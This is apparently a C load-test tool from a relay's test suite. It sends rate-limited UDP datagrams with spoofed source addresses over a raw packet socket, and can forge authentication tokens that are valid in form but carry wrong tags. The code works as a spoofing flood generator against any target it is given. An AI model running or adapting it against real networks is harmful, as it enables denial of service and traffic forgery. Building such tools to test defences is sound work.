/*
 * The attacker: datagrams in the names of others, at a rate.
 *
 * Whole frames through a packet socket, past the sender's own IP and queues: an attacker's machine would be another one,
 * and his packets are to cost this one no more than arriving. So the program runs in a network namespace whose `--device`
 * leads to the relay's (a veth; `--mac` is its other end). The payloads are given (`--datagrams`, a line of hexadecimal digits each) and are sent in turn, each from the next
 * source: of a range, or of a list (`--sources`, a line IP:PORT each). With --forge each is a check whose token has
 * its last 31 characters made anew: right in form, version and key id, wrong in its tag.
 *
 * Without UDP checksums: a network card would have verified them. One thread; one line of JSON on stdout.
 */
#include "common.h"

#include <arpa/inet.h>
#include <errno.h>
#include <getopt.h>
#include <linux/if_packet.h>
#include <net/ethernet.h>
#include <net/if.h>
#include <netinet/ip.h>
#include <netinet/udp.h>
#include <stdlib.h>
#include <sys/prctl.h>
#include <time.h>
#include <unistd.h>

#define SECOND 1000000000u
#define BURST BATCH
#define CATCH_UP 3                 /* times the rate, when it is behind: an attacker elsewhere does not stall with us */
#define IP_BYTES (sizeof(struct iphdr) + sizeof(struct udphdr))
#define HEADERS_BYTES (sizeof(struct ether_header) + IP_BYTES)
#define DATAGRAM_MOST (SLOT_BYTES - HEADROOM)
#define TOKEN_AT 24             /* in a check whose first attribute is USERNAME */
#define TOKEN_CHARACTERS 32

_Static_assert(HEADERS_BYTES <= HEADROOM, "the headers stand in the headroom");

struct datagram {
    size_t length;
    uint8_t bytes[DATAGRAM_MOST];
};

struct source {
    uint32_t address;           /* network order, as the port */
    uint16_t port;
};

static struct {
    struct sockaddr_in target;
    const char *datagrams_file, *sources_file, *device;
    uint8_t mac[ETH_ALEN];
    bool to_mac;
    uint32_t source_base;       /* host order */
    long source_count, rate;
    double seconds;
    bool forge;
    struct datagram *datagrams;
    struct source *sources;
    size_t datagram_count;
    int fd;
    struct batch out;
    uint64_t random, queued, bytes, send_errors;
} flood;

static const char usage[] =
    "usage: flood --target IP:PORT --device NAME --mac MAC --datagrams FILE\n"
    "  (--sources FILE | --source-base IP [--source-count N]) [--rate PPS] [--seconds S] [--forge] [--cpu N]";

static uint64_t next_random(void) {
    flood.random ^= flood.random << 13;
    flood.random ^= flood.random >> 7;
    flood.random ^= flood.random << 17;
    return flood.random;
}

/* Room for one more element behind `count` of them. */
static void *grown(void *array, size_t count, size_t bytes) {
    array = realloc(array, (count + 1) * bytes);
    if (!array) die("out of memory");
    return array;
}

static FILE *open_lines(const char *path) {
    FILE *file = fopen(path, "r");
    if (!file) die("%s: %s", path, strerror(errno));
    return file;
}

static void parse_datagram(struct datagram *datagram, const char *digits) {
    size_t count = strcspn(digits, "\r\n");
    if (strspn(digits, "0123456789abcdefABCDEF") != count) die("--datagrams: not hexadecimal");
    datagram->length = count / 2;
    if (count % 2 || datagram->length > DATAGRAM_MOST) die("--datagrams: a line of %zu digits", count);
    for (size_t i = 0; i < datagram->length; i++) sscanf(digits + 2 * i, "%2hhx", &datagram->bytes[i]);
    if (flood.forge && datagram->length < TOKEN_AT + TOKEN_CHARACTERS) die("--forge: a datagram without a token");
}

static void read_datagrams(void) {
    char line[2 * DATAGRAM_MOST + 3];
    FILE *file = open_lines(flood.datagrams_file);
    while (fgets(line, sizeof line, file)) {
        flood.datagrams = grown(flood.datagrams, flood.datagram_count, sizeof *flood.datagrams);
        parse_datagram(&flood.datagrams[flood.datagram_count++], line);
    }
    fclose(file);
    if (!flood.datagram_count) die("--datagrams: none in %s", flood.datagrams_file);
}

static void read_sources(void) {
    char line[64];
    FILE *file = open_lines(flood.sources_file);
    for (flood.source_count = 0; fgets(line, sizeof line, file); flood.source_count++) {
        line[strcspn(line, "\r\n")] = 0;
        struct sockaddr_in address = parse_address(line);
        flood.sources = grown(flood.sources, (size_t)flood.source_count, sizeof *flood.sources);
        flood.sources[flood.source_count] = (struct source){address.sin_addr.s_addr, address.sin_port};
    }
    fclose(file);
    if (!flood.source_count) die("--sources: none in %s", flood.sources_file);
}

/* Of a range, each address has one port of its own, whatever run it is. */
static struct source source_at(uint64_t number) {
    uint32_t index = (uint32_t)(number % (uint64_t)flood.source_count);
    if (flood.sources) return flood.sources[index];
    uint16_t port = (uint16_t)(1024 + mix64(index + 1u) % (65536 - 1024));
    return (struct source){htonl(flood.source_base + index), htons(port)};
}

/* A token's text has one form only: the two low bits of its last character are zero. */
static void forge_token(uint8_t *token) {
    static const char alphabet[] = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    for (int i = 1; i < TOKEN_CHARACTERS; i++) {
        uint64_t bits = next_random() >> 20;
        token[i] = (uint8_t)alphabet[bits & (i == TOKEN_CHARACTERS - 1 ? 60 : 63)];
    }
}

/* RFC 1071. */
static uint16_t checksum(const struct iphdr *ip) {
    uint16_t words[sizeof *ip / 2];
    uint32_t sum = 0;
    memcpy(words, ip, sizeof words);
    for (size_t i = 0; i < sizeof words / sizeof *words; i++) sum += words[i];
    sum = (sum & 0xFFFF) + (sum >> 16);
    return (uint16_t)~(sum + (sum >> 16));
}

static void write_headers(uint8_t *payload, size_t length, struct source source) {
    struct ether_header ether = {.ether_type = htons(ETHERTYPE_IP)};
    struct iphdr ip = {.version = 4, .ihl = 5, .ttl = 64, .protocol = IPPROTO_UDP, .saddr = source.address,
                       .daddr = flood.target.sin_addr.s_addr, .tot_len = htons((uint16_t)(IP_BYTES + length))};
    struct udphdr udp = {.source = source.port, .dest = flood.target.sin_port,
                         .len = htons((uint16_t)(sizeof udp + length))};
    ip.check = checksum(&ip);
    memcpy(ether.ether_dhost, flood.mac, ETH_ALEN);
    memcpy(payload - sizeof udp, &udp, sizeof udp);
    memcpy(payload - IP_BYTES, &ip, sizeof ip);
    memcpy(payload - HEADERS_BYTES, &ether, sizeof ether);
}

static void queue_datagram(int slot) {
    const struct datagram *datagram = &flood.datagrams[flood.queued % flood.datagram_count];
    uint8_t *payload = batch_data(&flood.out, slot);
    memcpy(payload, datagram->bytes, datagram->length);
    if (flood.forge) forge_token(payload + TOKEN_AT);
    write_headers(payload, datagram->length, source_at(flood.queued));
    flood.out.vectors[slot] =
        (struct iovec){.iov_base = payload - HEADERS_BYTES, .iov_len = datagram->length + HEADERS_BYTES};
    flood.bytes += datagram->length;
    flood.queued++;
}

static void wait_until(uint64_t when) {
    struct timespec moment = {.tv_sec = (time_t)(when / SECOND), .tv_nsec = (long)(when % SECOND)};
    clock_nanosleep(CLOCK_MONOTONIC, TIMER_ABSTIME, &moment, NULL);
}

/* An open loop: burst n is due at n / rate. What could not be sent in time makes no great burst. Returns the seconds. */
static double run(void) {
    const double burst_ns = 1e9 * BURST / (double)flood.rate;
    const uint64_t start = now_ns(), end = start + (uint64_t)(flood.seconds * 1e9);
    uint64_t now = start, sent_at = 0;
    for (double due = (double)start; now < end && !stop_requested; now = now_ns()) {
        double soonest = (double)sent_at + burst_ns / CATCH_UP, next = due > soonest ? due : soonest;
        if ((double)now < next) {
            wait_until(next < (double)end ? (uint64_t)next : end);
            continue;
        }
        for (int i = 0; i < BURST; i++) queue_datagram(i);
        batch_send(flood.fd, &flood.out, BURST, &flood.send_errors);
        sent_at = now;
        due += burst_ns;
    }
    return (double)(now - start) / 1e9;
}

static double parse_seconds(const char *text) {
    char *end;
    double value = strtod(text, &end);
    if (end == text || *end || !(value >= 0 && value < 1e6)) die("not a number of seconds: %s", text);
    return value;
}

static uint32_t parse_host(const char *text) {
    struct in_addr address;
    if (inet_pton(AF_INET, text, &address) != 1) die("not an IPv4 address: %s", text);
    return ntohl(address.s_addr);
}

static void parse_mac(const char *text) {
    uint8_t *m = flood.mac;
    int used = 0;
    int count = sscanf(text, "%2hhx:%2hhx:%2hhx:%2hhx:%2hhx:%2hhx%n", m, m + 1, m + 2, m + 3, m + 4, m + 5, &used);
    if (count != ETH_ALEN || text[used]) die("not a MAC address: %s", text);
    flood.to_mac = true;
}

static void set_option(int option, char *text) {
    switch (option) {
    case 'D': flood.device = text; break;
    case 'm': parse_mac(text); break;
    case 't': flood.target = parse_address(text); break;
    case 'd': flood.datagrams_file = text; break;
    case 'S': flood.sources_file = text; break;
    case 'a': flood.source_base = parse_host(text); break;
    case 'n': flood.source_count = parse_number(text, 1, 10000000); break;
    case 'r': flood.rate = parse_number(text, 1, 10000000); break;
    case 's': flood.seconds = parse_seconds(text); break;
    case 'f': flood.forge = true; break;
    case 'c': pin_cpu((int)parse_number(text, -1, 1023)); break;
    default: die("%s", usage);
    }
}

static void parse_options(int argc, char **argv) {
    static const struct option options[] = {
        {"target", required_argument, NULL, 't'}, {"device", required_argument, NULL, 'D'},
        {"mac", required_argument, NULL, 'm'}, {"datagrams", required_argument, NULL, 'd'},
        {"sources", required_argument, NULL, 'S'}, {"source-base", required_argument, NULL, 'a'},
        {"source-count", required_argument, NULL, 'n'}, {"rate", required_argument, NULL, 'r'},
        {"seconds", required_argument, NULL, 's'}, {"forge", no_argument, NULL, 'f'},
        {"cpu", required_argument, NULL, 'c'}, {0}};
    flood.rate = 10000, flood.seconds = 3, flood.source_count = 1;
    for (int option; (option = getopt_long(argc, argv, "", options, NULL)) != -1;) set_option(option, optarg);
    bool sources = !flood.sources_file != !flood.source_base;
    if (optind < argc || !flood.target.sin_port || !flood.device || !flood.to_mac || !flood.datagrams_file || !sources) die("%s", usage);
}

/* Nothing is received by it, whatever passes there. */
static void open_device(void) {
    struct sockaddr_ll at = {.sll_family = AF_PACKET, .sll_ifindex = (int)if_nametoindex(flood.device)};
    int one = 1;
    flood.fd = socket(AF_PACKET, SOCK_RAW | SOCK_CLOEXEC, 0);
    if (flood.fd < 0) die("a packet socket: %s", strerror(errno));
    if (!at.sll_ifindex || bind(flood.fd, (struct sockaddr *)&at, sizeof at))
        die("--device %s: %s", flood.device, strerror(errno));
    if (setsockopt(flood.fd, SOL_PACKET, PACKET_QDISC_BYPASS, &one, sizeof one)) die("PACKET_QDISC_BYPASS");
}

static void prepare(void) {
    stop_on_signals();
    prctl(PR_SET_TIMERSLACK, 1);
    read_datagrams();
    if (flood.sources_file) read_sources();
    flood.random = mix64(now_ns() ^ (uint64_t)getpid() << 32) | 1;
    open_device();
    batch_init(&flood.out, false, false, true);
}

int main(int argc, char **argv) {
    parse_options(argc, argv);
    prepare();
    double seconds = run();
    uint64_t sent = flood.queued - flood.send_errors;
    printf("{\"sent\": %lu, \"bytes\": %lu, \"send_errors\": %lu, \"seconds\": %.3f, \"pps\": %.0f}\n",
           sent, flood.bytes, flood.send_errors, seconds, seconds > 0 ? (double)sent / seconds : 0);
    return 0;
}
